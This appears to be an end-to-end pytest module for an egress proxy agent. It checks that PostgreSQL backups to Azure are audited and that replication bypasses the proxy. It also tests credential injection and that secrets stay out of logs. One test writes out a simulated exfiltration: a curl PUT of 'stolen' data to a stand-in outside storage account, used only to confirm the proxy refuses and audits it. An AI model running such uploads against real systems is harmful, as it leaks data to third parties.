"""The core user story end to end, with the programs users run.

A database's primary pod backs up to Azure Blob Storage with barman (as
CloudNativePG does) and streams to its replica pod; a registry pod stores
blobs in Azure with its own account. The agent runs in the node and:

* diverts the primary's backup traffic to the proxy, which lets it through
  to ``pgbackups.blob.core.windows.net`` and audits every connection;
* never touches replication (the pod network is excepted) nor the registry
  (not an intercepted workload): Azure sees their own addresses;
* refuses the primary's connections to any other storage account;
* (with HTTP rules) holds the Azure credential itself: the pod has a dummy
  one, the proxy terminates the pod's TLS, injects the real SAS or SharedKey
  signature, originates TLS upstream, and re-reads rotated secrets.

Real PostgreSQL 15, real barman-cloud, real Azurite over HTTPS; one set-up
per module (Azurite, the PostgreSQL pair and the agent start once).
"""

from __future__ import annotations

import base64
import json
import secrets
import shutil
import sys
import textwrap
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from egress_agent.lab.netns import Lab
from egress_agent.lab.tls import make_ca
from tests.harness import Agent, Audit
from tests.lab.azurite import Account, Azurite, account_sas, new_account, start_azurite
from tests.lab.barman import BackupConfig, PodBackups
from tests.lab.postgres import (
    PgServer,
    allow_replication,
    create_replica,
    initdb,
    pod_root,
    postgres_dir,
    start_postgres,
    wait_for,
)

pytestmark = pytest.mark.e2e

BLOB = "pgbackups.blob.core.windows.net"
REGISTRY_BLOB = "harborstore.blob.core.windows.net"
EXFIL = "exfil.blob.core.windows.net"  # somebody else's storage account
PRIMARY, REPLICA, REGISTRY, AZURE = "198.19.1.2", "198.19.2.2", "198.19.3.2", "198.18.1.2"
CONTAINER = "backups"
DESTINATION = f"https://{BLOB}/{CONTAINER}"


WORKLOADS = f"""
version: 1
proxy: {{port: 15001, connect_timeout: 5}}
workloads:
  pg-primary: {{cidrs: [{PRIMARY}/32, "fd00:19:1::2/128"]}}
  pg-replica: {{cidrs: [{REPLICA}/32, "fd00:19:2::2/128"]}}
  registry:   {{cidrs: [{REGISTRY}/32, "fd00:19:3::2/128"]}}
intercept:
  # Every TCP port of the database pods, except the pod network: without the
  # exception, replication would be diverted too.
  - from: [pg-primary, pg-replica]
    except_cidrs: [198.19.0.0/16, "fd00:19::/32"]
"""


def baseline_policy() -> str:
    """Today's product: the proxy allows the backups, the pod holds the credential."""
    return WORKLOADS + textwrap.dedent(f"""\
        egress:
          - name: azure-backups
            from: [pg-primary]
            to: {{hosts: [{BLOB}], ports: [443]}}
            action: allow
        default: deny
        """)


def injection_policy(s: Scenario, *, auth_443: str) -> str:
    """The proxy holds the credential: TLS from the pod is terminated with the
    proxy's certificate, plain HTTP on port 80 is upgraded to TLS upstream."""
    upstream = f"{{tls: true, port: 443, ca_file: {s.azure_ca}}}"
    return WORKLOADS + textwrap.dedent(f"""\
        egress:
          - name: backups-injected
            from: [pg-primary]
            to: {{hosts: [{BLOB}], ports: [443]}}
            action: allow
            http:
              client_tls: {{cert: {s.proxy_cert.cert_path}, key: {s.proxy_cert.key_path}}}
              upstream: {upstream}
              auth: {auth_443}
          - name: backups-plain-http
            from: [pg-primary]
            to: {{hosts: [{BLOB}], ports: [80]}}
            action: allow
            http:
              upstream: {upstream}
              auth: {{azure_shared_key: {{account: {s.account.name}, key_file: {s.key_file}}}}}
        default: deny
        """)


@dataclass
class Scenario:
    lab: Lab
    work: Path  # root-only: the agent's files and secrets
    pods: Path  # reachable by the postgres user
    azure_ca: Path
    pod_azure_ca: Path  # copies the pods can read
    pod_proxy_ca: Path
    proxy_cert: Any
    account: Account
    registry_account: Account
    azurite: Azurite
    primary: PgServer
    replica: PgServer
    backups: PodBackups
    agent: Agent
    policy: Path
    audit: Path
    sas_file: Path
    key_file: Path
    applied_policy: str = ""
    timings: dict[str, float] = field(default_factory=dict)

    def audit_records(self) -> list[dict[str, Any]]:
        if not self.audit.exists():
            return []
        return Audit(self.audit).all()

    def agent_log(self) -> str:
        return self.agent.log.read_text(errors="replace")

    def set_policy(self, text: str, timeout: float = 10) -> None:
        """Rename a new policy over the old one; wait until the agent applied it
        (or fail with the agent's complaint, putting the running policy back)."""
        if text == self.applied_policy:
            return
        before = self.agent_log()
        self._write_policy(text)

        def outcome() -> str | None:
            new = self.agent_log()[len(before) :]
            if "reloaded (" in new:
                return "applied"
            if "keeping policy generation" in new or "keeping generation" in new:
                return new
            return None

        result = wait_for(outcome, "the agent to reload the policy", timeout=timeout)
        if result != "applied":
            self._write_policy(self.applied_policy)  # same hash: the agent ignores it
            pytest.fail(f"the agent refused the policy:\n{result}")
        self.applied_policy = text

    def _write_policy(self, text: str) -> None:
        tmp = self.policy.with_name("policy.yaml.new")
        tmp.write_text(text)
        tmp.replace(self.policy)

    def write_key(self, value: str) -> None:
        """Replace the account key file by rename, as an editor or a secret manager does."""
        tmp = self.key_file.with_name(self.key_file.name + ".new")
        tmp.write_text(value)
        tmp.chmod(0o600)
        tmp.replace(self.key_file)

    def write_sas(self, value: str) -> None:
        """Update the SAS the way the kubelet updates a mounted Secret: a new
        timestamped folder, then one rename of the ``..data`` symlink to it
        (``sas`` itself is a symlink to ``..data/sas``)."""
        folder = self.sas_file.parent
        new = folder / f"..{time.monotonic_ns()}"
        new.mkdir(mode=0o700)
        (new / "sas").write_text(value)
        data = folder / "..data"
        old = data.resolve() if data.is_symlink() else None
        tmp = folder / "..data_tmp"
        tmp.symlink_to(new.name)
        tmp.replace(data)
        if not self.sas_file.is_symlink():
            self.sas_file.symlink_to("..data/sas")
        if old is not None:
            shutil.rmtree(old)

    def azure_requests_since(self, mark: int) -> list[Any]:
        return self.azurite.requests()[mark:]

    def use_baseline(self) -> None:
        """Today's allow rule, and the pod holding the real SAS for ``pg-main``."""
        self.set_policy(baseline_policy())
        self.backups.configure(_pod_config(self, "pg-main", sas_token=account_sas(self.account)))

    @property
    def node_towards_azure(self) -> str:
        return str(self.lab.hosts["azure"].node_ipv4)


def _copy_for_pods(src: Path, dst: Path) -> Path:
    shutil.copyfile(src, dst)
    dst.chmod(0o644)
    return dst


@pytest.fixture(scope="module")
def s(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scenario]:
    work = tmp_path_factory.mktemp("backups")
    timings: dict[str, float] = {}
    with pod_root() as pods, Lab() as lab:
        lab.add_pod("pg-primary", PRIMARY, "fd00:19:1::2")
        lab.add_pod("pg-replica", REPLICA, "fd00:19:2::2")
        lab.add_pod("registry", REGISTRY, "fd00:19:3::2")
        lab.add_external("azure", AZURE, "fd00:18:1::2", hostnames=[BLOB, REGISTRY_BLOB, EXFIL])

        azure_ca = make_ca(work / "azure-ca", name="lab Azure CA")
        azure_cert = azure_ca.issue(work / "azure-cert", [BLOB, f"*.{BLOB.split('.', 1)[1]}"])
        proxy_ca = make_ca(work / "proxy-ca", name="egress-agent proxy CA")
        proxy_cert = proxy_ca.issue(work / "proxy-cert", [BLOB])
        account, registry_account = new_account("pgbackups"), new_account("harborstore")

        started = time.monotonic()
        azurite = start_azurite(
            lab, "azure", cert=azure_cert, accounts=[account, registry_account],
            workdir=work / "azurite",
        )  # fmt: skip
        timings["azurite start"] = time.monotonic() - started

        secrets_dir = work / "secrets"
        (secrets_dir / "azure-sas").mkdir(mode=0o700, parents=True)
        sas_file, key_file = secrets_dir / "azure-sas" / "sas", secrets_dir / "key"
        policy = work / "policy.yaml"
        policy.write_text(baseline_policy())
        audit = work / "audit.jsonl"
        # The agent first: connections made before it starts would never be
        # diverted (NAT decides at a connection's first packet), which would make
        # the "replication is not diverted" check meaningless.
        agent = Agent(lab, policy=policy, audit=audit, log=work / "agent.log").start()

        started = time.monotonic()
        home = postgres_dir(pods / "pg-primary", 0o755)
        backups = PodBackups(lab, "pg-primary", home / "backup")
        # Configured before the first WAL segment is archived (at the replica's base backup).
        backups.configure(
            BackupConfig(destination=DESTINATION, server="pg-main",
                         ca_file=_copy_for_pods(azure_ca.cert_path, pods / "azure-ca.crt"),
                         sas_token=account_sas(account))
        )  # fmt: skip
        # What CloudNativePG runs before a new cluster archives anything: the
        # destination must hold no WAL yet (it also creates the container).
        backups.run("check-wal-archive")
        primary_data = home / "data"
        initdb(lab, "pg-primary", primary_data)
        allow_replication(primary_data, from_cidr=f"{REPLICA}/32")
        primary = start_postgres(
            lab, "pg-primary", datadir=primary_data, socket_dir=home / "run", listen=PRIMARY,
            settings={"archive_mode": "on", "archive_command": backups.archive_command,
                      "wal_level": "replica"},
        )  # fmt: skip
        replica_home = postgres_dir(pods / "pg-replica", 0o755)
        create_replica(
            lab, "pg-replica", primary=primary, primary_address=PRIMARY,
            datadir=replica_home / "data", slot="pg_replica",
        )  # fmt: skip
        replica = start_postgres(
            lab, "pg-replica", datadir=replica_home / "data", socket_dir=replica_home / "run",
            listen=REPLICA, settings={"wal_retrieve_retry_interval": "200ms"},
        )  # fmt: skip
        timings["postgres pair start"] = time.monotonic() - started

        scenario = Scenario(
            lab=lab, work=work, pods=pods, azure_ca=azure_ca.cert_path,
            pod_azure_ca=pods / "azure-ca.crt",
            pod_proxy_ca=_copy_for_pods(proxy_ca.cert_path, pods / "proxy-ca.crt"),
            proxy_cert=proxy_cert, account=account, registry_account=registry_account,
            azurite=azurite, primary=primary, replica=replica, backups=backups, agent=agent,
            policy=policy, audit=audit, sas_file=sas_file, key_file=key_file,
            applied_policy=baseline_policy(), timings=timings,
        )  # fmt: skip
        try:
            yield scenario
        finally:
            for server in (replica, primary):
                server.stop()
            agent.stop()
            sys.stderr.write(
                "\nbackups scenario timings: "
                + ", ".join(f"{k} {v:.1f}s" for k, v in timings.items())
                + "\n"
            )


def _pod_config(s: Scenario, server: str, **kw: Any) -> BackupConfig:
    kw.setdefault("ca_file", s.pod_azure_ca)
    return BackupConfig(destination=DESTINATION, server=server, **kw)


def _archive_a_wal(s: Scenario, table: str) -> str:
    """Write something, switch WAL segments; return the segment that must get archived."""
    s.primary.psql(f"CREATE TABLE IF NOT EXISTS {table} (n int); "
                   f"INSERT INTO {table} SELECT generate_series(1, 1000)")  # fmt: skip
    segment = s.primary.psql("SELECT pg_walfile_name(pg_switch_wal())").strip()

    def archived() -> bool:
        last = s.primary.psql("SELECT coalesce(last_archived_wal, '') FROM pg_stat_archiver")
        return last.strip() >= segment

    try:
        wait_for(archived, f"archive_command to archive {segment}", timeout=30)
    except TimeoutError:
        pytest.fail(f"WAL {segment} not archived; server log:\n{s.primary.log_text()}")
    return segment


def _backup(s: Scenario) -> str:
    """A WAL segment archived, a base backup; the backup's id from backup-list."""
    _archive_a_wal(s, "before_backup")
    s.backups.run(
        "backup",
        options=["--host", str(s.primary.socket_dir), "--port", str(s.primary.port),
                 "--user", "postgres", "--immediate-checkpoint"],
    )  # fmt: skip
    listing = s.backups.run("backup-list", options=["--format", "json"]).stdout
    backups = json.loads(listing)["backups_list"]
    assert len(backups) == 1, listing
    return str(backups[0]["backup_id"])


def _divert_records(s: Scenario, since: int) -> list[dict[str, Any]]:
    """pg-primary's connection records (not the per-request records of http rules)."""
    return [
        r
        for r in s.audit_records()[since:]
        if r["src"].startswith(f"{PRIMARY}:") and r["event"] != "request"
    ]


def _request_records(s: Scenario, since: int) -> list[dict[str, Any]]:
    return [
        r
        for r in s.audit_records()[since:]
        if r["src"].startswith(f"{PRIMARY}:") and r["event"] == "request"
    ]


# -- baseline: works with today's allow rules ---------------------------------


@dataclass(frozen=True)
class BaselineBackup:
    backup_id: str
    audit_from: int
    azure_from: int
    rows: int


@pytest.fixture(scope="module")
def baseline_backup(s: Scenario) -> BaselineBackup:
    """The primary backs up with the real credential in the pod, through the proxy."""
    s.use_baseline()
    audit_from, azure_from = len(s.audit_records()), len(s.azurite.requests())
    started = time.monotonic()
    s.primary.psql(
        "CREATE TABLE orders (id int PRIMARY KEY, item text); "
        "INSERT INTO orders SELECT i, 'item ' || i FROM generate_series(1, 5000) i"
    )
    backup_id = _backup(s)
    s.timings["baseline backup"] = time.monotonic() - started
    return BaselineBackup(backup_id=backup_id, audit_from=audit_from, azure_from=azure_from,
                          rows=5000)  # fmt: skip


def test_backup_and_wal_archiving_go_through_the_proxy(
    s: Scenario, baseline_backup: BaselineBackup
) -> None:
    # Every connection the backup tools made is in the audit log, allowed by the rule.
    records = _divert_records(s, baseline_backup.audit_from)
    assert records, "no audit record for the primary's backup connections"
    for rec in records:
        assert rec["event"] == "closed" and rec["verdict"] == "allow", rec
        assert rec["rule"] == "azure-backups" and rec["server_name"] == BLOB, rec
        assert rec["dst"] == f"{AZURE}:443" and rec["protocol"] == "tls", rec
        assert rec["bytes_up"] > 0 and rec["bytes_down"] > 0, rec
    # Azure saw the proxy's address for every request, never the pod's.
    seen = s.azure_requests_since(baseline_backup.azure_from)
    assert seen and {r.client_ip for r in seen} == {s.node_towards_azure}, seen
    assert any(r.method == "PUT" and "/pg-main/wals/" in r.path for r in seen), seen
    assert any(r.method == "PUT" and "/pg-main/base/" in r.path for r in seen), seen
    # WAL archiving ran from PostgreSQL's archive_command, and never failed.
    stats = s.primary.psql("SELECT archived_count, failed_count FROM pg_stat_archiver")
    archived, failed = (int(x) for x in stats.strip().split("|"))
    assert archived >= 1 and failed == 0, stats


def test_restore_from_the_backup_starts_postgres(
    s: Scenario, baseline_backup: BaselineBackup
) -> None:
    """barman-cloud-restore fetches the base backup (through the proxy) and
    PostgreSQL recovers from it, fetching WAL with barman-cloud-wal-restore."""
    s.use_baseline()
    target = postgres_dir(s.pods / "pg-primary" / "restored")
    s.backups.run("restore", extra=[baseline_backup.backup_id, str(target)])
    assert (target / "PG_VERSION").read_text().strip() == "15"
    wal_restore = (f"{s.backups.in_env} {s.backups.bindir}/barman-cloud-wal-restore "
                   f"--cloud-provider azure-blob-storage {DESTINATION} pg-main %f %p")  # fmt: skip
    (target / "recovery.signal").touch()
    shutil.chown(target / "recovery.signal", "postgres", "postgres")
    restored = start_postgres(
        s.lab, "pg-primary", datadir=target, socket_dir=s.pods / "pg-primary" / "run-restored",
        listen="", port=5433,
        settings={"restore_command": wal_restore, "recovery_target": "immediate",
                  "recovery_target_action": "promote", "archive_mode": "off"},
    )  # fmt: skip
    try:
        wait_for(
            lambda: restored.psql("SELECT pg_is_in_recovery()").strip() == "f",
            "the restored server to finish recovery",
        )
        assert restored.psql("SELECT count(*) FROM orders").strip() == str(baseline_backup.rows)
    finally:
        restored.stop()


def test_replication_streams_directly_never_through_the_proxy(s: Scenario) -> None:
    # Make the replica reconnect now, while the agent's rules are in place.
    audit_from = len(s.audit_records())
    old = s.primary.psql("SELECT pid FROM pg_stat_replication").strip()
    assert old, "the replica is not connected"
    s.primary.psql(f"SELECT pg_terminate_backend({old})")

    def streaming_again() -> str | None:
        rows = s.primary.psql("SELECT pid, client_addr, state FROM pg_stat_replication").strip()
        if rows and not rows.startswith(f"{old}|") and rows.endswith("|streaming"):
            return rows
        return None

    rows = wait_for(streaming_again, "the replica to stream again", timeout=30)
    # The primary sees the replica's own address: no proxy in between.
    assert rows.split("|")[1] == REPLICA, rows
    s.primary.psql("CREATE TABLE replicated (n int); INSERT INTO replicated VALUES (42)")
    wait_for(
        lambda: s.replica.psql(
            "SELECT count(*) FROM pg_tables WHERE tablename = 'replicated'"
        ).strip()
        == "1",
        "the new table on the replica",
    )
    assert s.replica.psql("SELECT n FROM replicated").strip() == "42"
    # The proxy saw none of it ...
    for rec in s.audit_records()[audit_from:]:
        assert not rec["src"].startswith(f"{REPLICA}:"), rec
        assert not rec["dst"].endswith(":5432"), rec
    # ... and the kernel diverted none of the replica's connections: read from
    # the selection's own counters, the BPF classifier's per-workload ones or
    # the nftables intercept rules', whichever datapath the agent runs.
    curl = ["curl", "-s", "--max-time", "5"]
    status = json.loads(s.lab.run("node", [*curl, "http://127.0.0.1:15021/status"]).stdout)
    metrics = s.lab.run("node", [*curl, "http://127.0.0.1:15021/metrics"]).stdout
    table = json.loads(s.lab.run("node", ["nft", "-j", "list", "table", "inet",
                                          "egress_agent"]).stdout)  # fmt: skip

    def diverted_packets(workload: str) -> int:
        if status["datapath"] == "bpf":
            prefix = f'egress_agent_bpf_marked_packets_total{{workload="{workload}"}} '
            values = [
                line[len(prefix) :] for line in metrics.splitlines() if line.startswith(prefix)
            ]
            assert values, f"no BPF counter for {workload} in /metrics"
            return int(float(values[0]))
        rules = [
            item["rule"] for item in table["nftables"]
            if "rule" in item and item["rule"].get("comment", "").endswith(f"from {workload}")
        ]  # fmt: skip
        assert rules, f"no intercept rule for {workload} in the ruleset"
        counters = [e["counter"] for rule in rules for e in rule["expr"] if "counter" in e]
        assert counters, rules
        return sum(c["packets"] for c in counters)

    assert diverted_packets("pg-replica") == 0
    # The same counters do count: the primary's backup connections went through them.
    assert diverted_packets("pg-primary") > 0


REGISTRY_CLIENT = """
import os, sys
from azure.storage.blob import BlobServiceClient
client = BlobServiceClient(
    f"https://{os.environ['ACCOUNT']}.blob.core.windows.net",
    credential={"account_name": os.environ["ACCOUNT"], "account_key": os.environ["KEY"]},
)
container = client.get_container_client("registry")
if not container.exists():
    container.create_container()
layer = os.urandom(200_000)
container.upload_blob("docker/registry/v2/blobs/sha256/layer", layer, overwrite=True)
back = container.download_blob("docker/registry/v2/blobs/sha256/layer").readall()
sys.exit(0 if back == layer else 1)
"""


def test_registry_talks_to_azure_directly_with_its_own_credential(s: Scenario) -> None:
    audit_from, azure_from = len(s.audit_records()), len(s.azurite.requests())
    env = {
        "PATH": "/usr/bin:/bin",
        "ACCOUNT": s.registry_account.name,
        "KEY": s.registry_account.key1,
        "REQUESTS_CA_BUNDLE": str(s.azure_ca),
    }
    python = str(s.backups.bindir / "python")
    proc = s.lab.run("registry", [python, "-c", REGISTRY_CLIENT], check=False, env=env, timeout=60)
    assert proc.returncode == 0, proc.stderr
    # (The registry's requests are those to its container: the primary's
    # archive_command may be talking to Azure at the same time.)
    seen = [r for r in s.azure_requests_since(azure_from) if r.path.startswith("/registry")]
    assert seen and {r.client_ip for r in seen} == {REGISTRY}, seen
    assert any(r.method == "PUT" and r.path.startswith("/registry/") for r in seen), seen
    assert not [r for r in s.audit_records()[audit_from:] if r["src"].startswith(REGISTRY)]


def test_another_storage_account_is_refused_and_audited(s: Scenario) -> None:
    """A pod that tries to upload somewhere else (curl, as an intruder would) is
    reset by the proxy; the audit log says which pod, where and by which rule."""
    s.use_baseline()
    audit_from, azure_from = len(s.audit_records()), len(s.azurite.requests())
    url = f"https://{EXFIL}/stolen/pg_hba.conf?{account_sas(s.account)}"
    curl = ["curl", "-sS", "--max-time", "10", "--cacert", str(s.pod_azure_ca), "-X", "PUT",
            "-H", "x-ms-blob-type: BlockBlob", "--data-binary", "stolen", url]  # fmt: skip
    proc = s.lab.run("pg-primary", curl, check=False, timeout=30)
    # The connection is reset during the TLS handshake: curl says 35 (TLS
    # connect error) or 56 (receive failure), never that anything came back.
    assert proc.returncode in (35, 56), (proc.returncode, proc.stderr)
    denied = wait_for(lambda: _divert_records(s, audit_from), "the audit record", timeout=5)
    assert len(denied) == 1, denied
    rec = denied[0]
    assert rec["event"] == "denied" and rec["verdict"] == "deny", rec
    assert rec["server_name"] == EXFIL and rec["rule"] == "default", rec
    assert rec["dst"] == f"{AZURE}:443" and rec["workload"] == "pg-primary", rec
    # Nothing reached Azure.
    assert not [r for r in s.azure_requests_since(azure_from) if r.path.startswith("/stolen")]


# -- the proxy holds the credential (HTTP rules) ------------------------------

DUMMY_SAS = "sv=2021-08-06&ss=b&srt=sco&sp=rwdlac&se=2099-01-01T00:00:00Z&spr=https&sig=placeholder"


@pytest.mark.parametrize("credential", ["sas", "key", "connection-string"])
def test_each_kind_of_pod_credential_works_through_the_proxy(s: Scenario, credential: str) -> None:
    """The pod configurations of the injection tests below, with the real
    credential: whatever fails there is the proxy's doing, not barman's set-up."""
    s.use_baseline()
    kinds = {
        "sas": {"sas_token": account_sas(s.account)},
        "key": {"account_key": s.account.key1},
        "connection-string": {"connection_string": (
            f"DefaultEndpointsProtocol=https;AccountName={s.account.name};"
            f"AccountKey={s.account.key1};BlobEndpoint=https://{BLOB}/")},
    }  # fmt: skip
    s.backups.configure(_pod_config(s, "pg-main", **kinds[credential]))
    audit_from = len(s.audit_records())
    listing = json.loads(s.backups.run("backup-list", options=["--format", "json"]).stdout)
    assert isinstance(listing["backups_list"], list), listing
    rules = [r["rule"] for r in _divert_records(s, audit_from)]
    assert rules and set(rules) == {"azure-backups"}, rules
    s.use_baseline()


def _dummy_key() -> str:
    return base64.b64encode(secrets.token_bytes(64)).decode()


def _injected_round(s: Scenario, server: str, *, port: int, rule: str) -> None:
    """check-wal-archive, WAL archiving and a base backup with the pod's dummy
    credential; all of it through ``rule`` and accepted by Azure."""
    audit_from, azure_from = len(s.audit_records()), len(s.azurite.requests())
    s.backups.run("check-wal-archive")
    _archive_a_wal(s, f"wal_{server.replace('-', '_')}")
    s.backups.run(
        "backup",
        options=["--host", str(s.primary.socket_dir), "--port", str(s.primary.port),
                 "--user", "postgres", "--immediate-checkpoint"],
    )  # fmt: skip
    listing = json.loads(s.backups.run("backup-list", options=["--format", "json"]).stdout)
    assert len(listing["backups_list"]) == 1, listing
    records = _divert_records(s, audit_from)
    assert records and all(r["rule"] == rule and r["verdict"] == "allow" for r in records)
    assert all(r["dst"] == f"{AZURE}:{port}" for r in records), records
    # One record per HTTP request: the path without its query string (where a
    # SAS would be), the status Azure gave, no authorization failure.
    requests = _request_records(s, audit_from)
    assert requests and all(r["rule"] == rule and r["host"] == BLOB for r in requests)
    assert {r["method"] for r in requests} >= {"PUT", "GET"}, requests
    assert not [r for r in requests if "?" in (r["path"] or "") or r["status"] in (401, 403)]
    seen = s.azure_requests_since(azure_from)
    assert seen and {r.client_ip for r in seen} == {s.node_towards_azure}, seen
    assert not [r for r in seen if r.status in (401, 403)], seen


def _use_sas_injection(s: Scenario) -> None:
    s.write_sas(account_sas(s.account))
    s.write_key(s.account.key1)
    s.set_policy(injection_policy(s, auth_443=f"{{azure_sas: {{file: {s.sas_file}}}}}"))


def test_sas_injected_by_the_proxy(s: Scenario) -> None:
    _use_sas_injection(s)
    # The pod trusts only the proxy's CA and holds a SAS that Azure would refuse.
    s.backups.configure(_pod_config(s, "pg-sas", ca_file=s.pod_proxy_ca, sas_token=DUMMY_SAS))
    _injected_round(s, "pg-sas", port=443, rule="backups-injected")


def test_shared_key_signed_by_the_proxy(s: Scenario) -> None:
    s.write_key(s.account.key1)
    s.set_policy(
        injection_policy(
            s,
            auth_443=f"{{azure_shared_key: {{account: {s.account.name}, key_file: {s.key_file}}}}}",
        )
    )
    s.backups.configure(_pod_config(s, "pg-key", ca_file=s.pod_proxy_ca, account_key=_dummy_key()))
    _injected_round(s, "pg-key", port=443, rule="backups-injected")


def test_plain_http_from_the_pod_leaves_as_tls(s: Scenario) -> None:
    _use_sas_injection(s)
    conn = (f"DefaultEndpointsProtocol=http;AccountName={s.account.name};"
            f"AccountKey={_dummy_key()};BlobEndpoint=http://{BLOB}/")  # fmt: skip
    s.backups.configure(_pod_config(s, "pg-http", ca_file=None, connection_string=conn))
    _injected_round(s, "pg-http", port=80, rule="backups-plain-http")
    # The pod spoke plain HTTP (the audit says so); Azure, which listens only
    # for HTTPS, accepted every request: the proxy originated the TLS.
    http = [r for r in _divert_records(s, 0) if r["dst"].endswith(":80")]
    assert http and all(r["protocol"] == "http" for r in http), http


def test_rotated_secrets_are_used_without_restart(s: Scenario) -> None:
    """Azure accepts two keys per account; rotation goes key1 -> (a bad one,
    which proves the file is re-read) -> key2, with the agent running."""
    _use_sas_injection(s)
    s.backups.configure(_pod_config(s, "pg-sas", ca_file=s.pod_proxy_ca, sas_token=DUMMY_SAS))
    azure_from = len(s.azurite.requests())

    def works() -> bool:
        return s.backups.run("backup-list", check=False).returncode == 0

    assert works()
    # The SAS, as a Kubernetes Secret volume updates it (..data symlink swap).
    s.write_sas(account_sas(s.account, key=_dummy_key()))
    wait_for(lambda: not works(), "the proxy to use the new (bad) SAS", timeout=15)
    s.write_sas(account_sas(s.account, key=s.account.key2))
    wait_for(works, "the proxy to use the SAS signed with key2", timeout=15)
    assert 403 in [r.status for r in s.azure_requests_since(azure_from)]

    # The account key for plain HTTP, replaced by rename.
    conn = (f"DefaultEndpointsProtocol=http;AccountName={s.account.name};"
            f"AccountKey={_dummy_key()};BlobEndpoint=http://{BLOB}/")  # fmt: skip
    s.backups.configure(_pod_config(s, "pg-http", ca_file=None, connection_string=conn))
    assert works()
    s.write_key(_dummy_key())
    wait_for(lambda: not works(), "the proxy to use the new (bad) key", timeout=15)
    s.write_key(s.account.key2)
    wait_for(works, "the proxy to use key2", timeout=15)


def test_secrets_appear_nowhere_in_logs_audit_or_metrics(s: Scenario) -> None:
    _use_sas_injection(s)
    s.backups.configure(_pod_config(s, "pg-sas", ca_file=s.pod_proxy_ca, sas_token=DUMMY_SAS))
    audit_from = len(s.audit_records())
    assert s.backups.run("backup-list", check=False).returncode == 0
    assert any(r["rule"] == "backups-injected" for r in _divert_records(s, audit_from))

    real_sas = s.sas_file.read_text()
    signature = urllib.parse.parse_qs(real_sas)["sig"][0]
    forbidden = {
        "SAS": real_sas, "SAS signature": signature,
        "SAS signature (URL-encoded)": urllib.parse.quote(signature, safe=""),
        "key1": s.account.key1, "key2": s.account.key2,
    }  # fmt: skip
    curl = ["curl", "-s", "--max-time", "5"]
    places = {
        "agent log": s.agent_log(),
        "audit log": s.audit.read_text(),
        "/metrics": s.lab.run("node", [*curl, "http://127.0.0.1:15021/metrics"]).stdout,
        "/status": s.lab.run("node", [*curl, "http://127.0.0.1:15021/status"]).stdout,
        # What the pod's tools printed: the proxy must not echo the credential back.
        "postgres log (archive_command)": s.primary.log_text(),
    }
    for place, text in places.items():
        for what, secret in forbidden.items():
            assert secret not in text, f"the {what} appears in the {place}"


def test_a_pod_holding_no_credential_cannot_back_up_today(s: Scenario) -> None:
    """Without HTTP rules the dummy credential reaches Azure and is refused:
    the injection tests above cannot pass by accident."""
    s.set_policy(baseline_policy())
    s.backups.configure(_pod_config(s, "pg-dummy", sas_token=DUMMY_SAS))
    proc = s.backups.run("backup-list", check=False, timeout=60)
    assert proc.returncode != 0
    assert "AuthorizationFailure" in proc.stderr, proc.stderr[-2000:]
